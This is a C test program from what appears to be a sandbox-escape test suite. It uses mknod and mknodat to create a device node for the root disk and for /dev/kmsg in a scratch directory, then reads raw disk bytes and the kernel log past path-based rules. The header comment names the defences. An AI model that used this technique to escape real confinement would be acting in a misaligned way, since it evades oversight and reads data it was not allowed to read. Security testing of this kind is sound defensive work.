/* tracejail-escape
 * id: cap-device-node
 * class: capabilities
 * title: mknod device nodes in scratch: the root disk, to read it raw, and the kernel log under a new name
 * covered: basic
 * needs: root
 *
 * Technique: file rules decide names, but a device node is a second name for a whole disk: with
 * CAP_MKNOD (in Docker's default set too) a program creates one in any writable directory, and as
 * root opens it past every path rule and Landlock rule on the files of that disk. The program
 * finds the root filesystem's device number (stat("/").st_dev), creates a block device node for it
 * in TJ_SCRATCH, once with mknodat and once with the older mknod, and reads the first 4 KiB:
 * the ext2/3/4 superblock's magic and UUID show it really read the disk (where the machine lets
 * root open its disk at all). Any device works the same way: a character node for /dev/kmsg's
 * number (1:11) reads the kernel log under a name no rule mentions.
 * Defence: creating a block or character device node is an escape primitive decided in the seccomp
 * filter (mknod and mknodat's mode argument), whatever capabilities remain; without CAP_MKNOD the
 * kernel refuses too, and the device cgroup or a nodev mount stop the open.
 */
#include <fcntl.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>

#include "escape.h"

/* Creates a device node of `type` for dev, opens it and reads from it. */
static void try_node(const char* what, const char* node, mode_t type, dev_t dev, int old_call) {
  unlink(node);
  long rc = old_call ? syscall(SYS_mknod, node, type | 0600, dev)
                     : mknodat(AT_FDCWD, node, type | 0600, dev);
  if (rc != 0) {
    stopped(what, ename(errno));
    return;
  }
  int fd = open(node, O_RDONLY | O_NONBLOCK | O_CLOEXEC);
  int err = errno;
  unlink(node);
  if (fd < 0) {
    char why[96];
    snprintf(why, sizeof why, "created, open -> %s", ename(err));
    stopped(what, why);
    return;
  }
  unsigned char buf[4096];
  ssize_t n = S_ISCHR(type) ? read(fd, buf, sizeof buf - 1) : pread(fd, buf, sizeof buf, 0);
  err = errno;
  close(fd);
  char detail[256];
  if (S_ISCHR(type) && n > 0) {
    buf[n] = '\0';
    buf[strcspn((char*)buf, "\n")] = '\0';
    snprintf(detail, sizeof detail, "read the kernel log under a new name: \"%.160s\"", buf);
    got_through(what, detail);
    return;
  }
  if (n < (S_ISCHR(type) ? 1 : 2048)) {
    snprintf(detail, sizeof detail, "created and opened, read -> %s", n < 0 ? ename(err) : "short");
    stopped(what, detail);
    return;
  }
  const unsigned char* sb = buf + 1024; /* the ext2/3/4 superblock */
  if (sb[0x38] == 0x53 && sb[0x39] == 0xef) {
    const unsigned char* u = sb + 0x68;
    snprintf(detail, sizeof detail,
             "read the root disk raw: ext superblock, filesystem UUID "
             "%02x%02x%02x%02x-%02x%02x-%02x%02x-%02x%02x-%02x%02x%02x%02x%02x%02x",
             u[0], u[1], u[2], u[3], u[4], u[5], u[6], u[7], u[8], u[9], u[10], u[11], u[12],
             u[13], u[14], u[15]);
  } else {
    snprintf(detail, sizeof detail, "read the root disk raw: %zd bytes, first bytes %02x %02x %02x %02x",
             n, buf[0], buf[1], buf[2], buf[3]);
  }
  got_through(what, detail);
}

int main(void) {
  setvbuf(stdout, NULL, _IOLBF, 0);
  const char* scratch = env("TJ_SCRATCH");
  struct stat st;
  if (stat("/", &st) != 0) {
    stopped("stat(\"/\")", ename(errno));
    return final_line();
  }
  printf("root filesystem: device %u:%u\n", major(st.st_dev), minor(st.st_dev));
  char node[4096];
  snprintf(node, sizeof node, "%s/tj-root-disk", scratch);
  if (major(st.st_dev) == 0) {
    stopped("mknod(root's device)", "the root filesystem has no block device (major 0)");
  } else {
    try_node("mknodat(TJ_SCRATCH/tj-root-disk, S_IFBLK, root's device) + read", node, S_IFBLK,
             st.st_dev, 0);
    try_node("mknod(TJ_SCRATCH/tj-root-disk, S_IFBLK, root's device) + read", node, S_IFBLK,
             st.st_dev, 1);
  }
  snprintf(node, sizeof node, "%s/tj-kmsg", scratch);
  try_node("mknodat(TJ_SCRATCH/tj-kmsg, S_IFCHR, 1:11) + read", node, S_IFCHR, makedev(1, 11), 0);
  return final_line();
}
